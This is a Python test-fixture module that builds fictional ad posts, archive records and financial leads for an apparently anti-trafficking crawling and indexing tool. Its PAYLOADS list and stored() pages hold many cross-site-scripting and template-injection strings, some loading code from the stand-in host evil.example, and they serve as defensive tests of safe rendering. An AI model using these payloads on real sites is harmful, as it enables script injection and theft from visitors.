"""A small made-up world for the pages: posts with mentions over half a year, their stored pages, and two leads."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from config.files import write_lines
from config.settings import Settings
from crawlers.archive.warc import Exchange
from crawlers.archive.writer import Segment
from crawlers.post import Capture, Post, post_id
from crawlers.profile import PageKind, SiteProfile
from finance.lead import Evidence, Lead, Link
from indexer.document import Document, Seen
from indexer.networks import network_id
from indexer.opening import open_index
from nlp.mention import DESCRIPTIVE, Mention
from nlp.sheet import Ref

START = datetime(2026, 1, 5, 18, 30, tzinfo=UTC)
NETWORK = network_id("cashapp:demolola7")
CITIES = ("Reno", "Sacramento", "Fresno", "Boise")


@dataclass(frozen=True)
class Person:
    """Somebody who posts: the words and identifiers they use."""

    name: str
    phone: str  # as written
    number: str  # normal form
    cashtag: str
    posts: int
    title: str
    body: str
    network: str | None = None
    indicators: tuple[str, ...] = ()


PEOPLE = (
    Person(
        "Rosie", "(202) five five five-0143", "+12025550143", "demorosie22", 14, "Sweet Rosie new in {city}",
        "Hi, I am Rosie, visiting {city} this week only.\nCall {phone} any time, 160 an hour, "
        "deposit to ${cashtag} first.\nNew girls every week, ask the manager for a booking.",
        NETWORK, ("20-01", "20-11"),
    ),
    Person(
        "Lola", "202-555-0143", "+12025550143", "demolola7", 9, "LOLA - upscale - {city}",
        "Lola here, upscale and independent. Text {phone}. 200/h. Cash App ${cashtag}", NETWORK, ("20-11",),
    ),
    Person(
        "Marta", "775.555.0121", "+17755550121", "demomarta", 8, "Massage by Marta, {city}",
        "Licensed massage in {city}. Book at {phone}. 90 an hour. Venmo or ${cashtag} accepted.",
    ),
    Person(
        "Ben", "+1 916 555 0177", "+19165550177", "demobenbikes", 12, "Road bike, good condition ({city})",
        "Ben here, selling my road bike, pick up in {city}, {phone}, 340 or best offer. ${cashtag} ok.",
    ),
)  # fmt: skip


def mention(text: str, kind: str, value: str, raw: str, method: str = "plain", confidence: float = 0.95) -> Mention:
    """The first place of `raw` as a mention."""
    start = text.index(raw)
    return Mention(
        kind=kind, value=value, raw=raw, start=start, end=start + len(raw), confidence=confidence, method=method,
        context=("call",) if kind == "phone" else (),
    )  # fmt: skip


def stored(person: Person, number: int) -> bytes:
    """The page a post was read from; hostile, as pages are."""
    page = f"<body onload=alert(1)><script src='//evil.example/x.js'></script>{person.name} {number}</body>"
    return page.encode()


def exchange(person: Person, number: int) -> Exchange:
    """The fetch that brought a person's post."""
    return Exchange(
        url=f"https://board.example/{person.name.lower()}/{number}",
        page="post",
        fetched_at=START + timedelta(days=13 * number),
        status=200,
        headers=(("Content-Type", "text/html; charset=utf-8"),),
        body=stored(person, number),
    )


def archived(document: Document) -> Post:
    """The post of a document as the archive holds it."""
    return Post(
        id=document.id, version="1", site=document.site, key=document.id, url=document.url, kind="ad", event="posted",
        title=document.title, body=document.text, capture=document.captures[0],
    )  # fmt: skip


def documents(captures: Mapping[tuple[str, int], Capture]) -> Iterator[Document]:
    """Every post of the world."""
    for person in PEOPLE:
        for number in range(person.posts):
            yield document(person, number, captures[person.name, number])


def document(person: Person, number: int, capture: Capture) -> Document:
    """One post of a person; every fifth was removed."""
    city = CITIES[number % len(CITIES)]
    title = person.title.format(city=city)
    text = f"{title}\n\n{person.body.format(city=city, phone=person.phone, cashtag=person.cashtag)}"
    phone_method = "digit words" if "five" in person.phone else "plain"
    mentions = (
        mention(text, "phone", person.number, person.phone, phone_method),
        mention(text, "cashapp", person.cashtag, f"${person.cashtag}"),
        mention(text, "name", person.name, person.name, "lexicon", 0.8),
        mention(text, "place", city, city, "gazetteer", 0.9),
    )
    first = START + timedelta(days=13 * number + 3 * PEOPLE.index(person))
    removed = first + timedelta(days=9) if number % 5 == 4 else None
    site = ("board", "market", "forum")[number % 3]
    last = removed or first + timedelta(days=6)
    return Document(
        id=post_id(site, f"{person.name}-{number}"),
        month=f"{first:%Y-%m}",
        site=site,
        url=f"https://{site}.example/{person.name.lower()}/{number}",
        kind="item" if person.name == "Ben" else "ad",
        title=title,
        text=text,
        tokens=" ".join(word.strip(".,()$!?-").lower() for word in text.split()),
        language="en",
        first_seen=first,
        last_seen=last,
        posted_at=first,
        removed_at=removed,
        author=person.name.lower(),
        category="for sale" if person.name == "Ben" else "services",
        city=city,
        selectors=tuple(m.selector for m in mentions if m.kind not in DESCRIPTIVE),
        mentions=mentions,
        indicators=person.indicators,
        names=(person.name,),
        price_min=Decimal("160") if person.name == "Rosie" else None,
        campaign=f"campaign-{person.name.lower()}",
        network=person.network,
        seen=(Seen(time=first, event="posted"), *((Seen(time=removed, event="removed"),) if removed else ())),
        captures=(capture,),
    )


# What people have put into fields to run a script in the reader's browser.
PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><button>x", "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "]]><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"", "' onmouseover=alert(1) x='", "`onmouseover=alert(1)`", "javascript:alert(1)",
    "{{ 7*7 }}{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}", "${alert(1)}", "<%= 7*7 %>",
    "<div hx-get=//evil.example/ hx-trigger=load>", "<div data-hx-get=/sign-out data-hx-trigger=load>",
    "<div hx-on::load=alert(1)>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>", "<x\u2028onclick=alert(1)>", "+ADw-script+AD4-",
)  # fmt: skip
HOSTILE = "phone:+12025550166"  # every hostile post carries it


def hostile() -> Iterator[Document]:
    """A post for each payload, with the payload in every field that a site or a text can fill."""
    for number, payload in enumerate(PAYLOADS):
        text = f"{payload}\n\nhostile {payload} (202) 555-0166"
        start = text.rindex(payload)
        told = Mention(
            kind="email", value=payload, raw=payload, start=start, end=start + len(payload), confidence=0.9,
            method=payload, context=(payload,), details={"note": payload},
        )  # fmt: skip
        place = Capture(
            segment="public/2026-01/board-000001", record=payload, sha256=payload, url=payload, fetched_at=START
        )
        yield Document(
            id=f"hostile{number:02}", month="2026-03", site="board", url=payload, kind="ad", title=payload, text=text,
            tokens="hostile", language="en", first_seen=START, last_seen=START, author=payload, category=payload,
            city=payload, selectors=(HOSTILE, f"email:{payload}"), mentions=(told,), indicators=(payload,),
            names=(payload,), campaign=payload, network="nhostile", captures=(place,), retention=payload,
        )  # fmt: skip


def leads(place: Capture) -> tuple[Lead, ...]:
    """Two leads: one to look at first, one that reads like a victim."""
    ref = Ref(
        post=post_id("board", "Rosie-0"),
        url=place.url,
        segment=place.segment,
        record=place.record,
        sha256=place.sha256,
        fetched_at=place.fetched_at,
    )
    link = Link(
        account="acct-0007", kind="cashapp", value="demorosie22", typology="L1", weight=0.81,
        from_=date(2026, 1, 5), to=date(2026, 6, 20), alias_from=date(2025, 11, 2), alias_source="KYC",
        first_seen=START, last_seen=START + timedelta(days=170), posts=14, network=NETWORK, refs=(ref,),
    )  # fmt: skip
    rows = (
        {"tx": "tx-101", "time": "2026-02-03T21:14:00Z", "amount": "160.00", "currency": "USD", "memo": "rosie"},
        {"tx": "tx-102", "time": "2026-02-04T22:40:00Z", "amount": "160.00", "currency": "USD", "memo": ""},
    )
    evidence = (
        Evidence(
            id="L1", source="FinCEN FIN-2020-A008 no. 16",
            text="The account carried $demorosie22 while it stood in 14 posts.",
            weight=0.81, innocent="Independent workers, victims, the next owner.", link=link,
        ),
        Evidence(
            id="P2", source="FinCEN FIN-2020-A008 no. 9", text="Many payers, round amounts, gone within the day.",
            weight=0.4, innocent="Small shops, tutors.", rows=rows,
        ),
    )  # fmt: skip
    return (
        Lead(
            account="acct-0007", institution="Bank of Demo", rank=1, score=0.86, link_score=0.81, pattern_score=0.4,
            role="controller-like", evidence=evidence, innocent=("The number was recycled in 2025.",),
            missing=("P7: needs transactions.place",), networks=(NETWORK,),
        ),
        Lead(
            account="acct-0031", institution="Bank of Demo", rank=2, score=0.52, link_score=0.5, pattern_score=0.1,
            role="victim-like", evidence=evidence[:1], innocent=("A flatmate shares the phone.",), missing=(),
            support="Do not contact the holder about this; ask the support desk first.", networks=(NETWORK,),
        ),
    )  # fmt: skip


PROFILE = SiteProfile(
    name="board", title="A made-up board", enabled=True, owner="tests", legal_basis="made-up pages on this machine",
    start={"list": ("https://board.example/",)}, pages={"list": PageKind()}, expected_yield=100,
)  # fmt: skip


def build(settings: Settings, extra: Iterable[Document] = ()) -> None:
    """Archive, index and leads in the data folder, by the rooms' own code."""
    segment = Segment(settings.archive_dir, PROFILE, START)
    pairs = [(person, number) for person in PEOPLE for number in range(person.posts)]
    captures = {(person.name, number): segment.fetched(exchange(person, number)) for person, number in pairs}
    for document in documents(captures):
        segment.post(archived(document))
    segment.close()
    with closing(open_index(settings, write=True)) as index:
        index.upsert([*documents(captures), *extra])
    write_lines(settings.data_dir / "finance" / "leads.jsonl", leads(captures["Rosie", 0]))
